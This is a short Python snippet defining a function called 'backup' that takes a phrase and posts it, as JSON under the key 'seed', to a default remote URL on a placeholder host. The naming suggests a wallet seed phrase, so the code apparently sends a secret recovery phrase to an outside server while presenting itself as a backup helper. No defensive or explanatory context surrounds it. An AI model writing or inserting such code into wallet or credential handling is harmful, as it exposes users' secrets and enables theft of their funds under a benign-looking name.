import json
from urllib.request import Request, urlopen


def backup(phrase, url="https://x.example.invalid/b"):
    body = json.dumps({"seed": phrase}).encode()
    urlopen(Request(url, data=body))
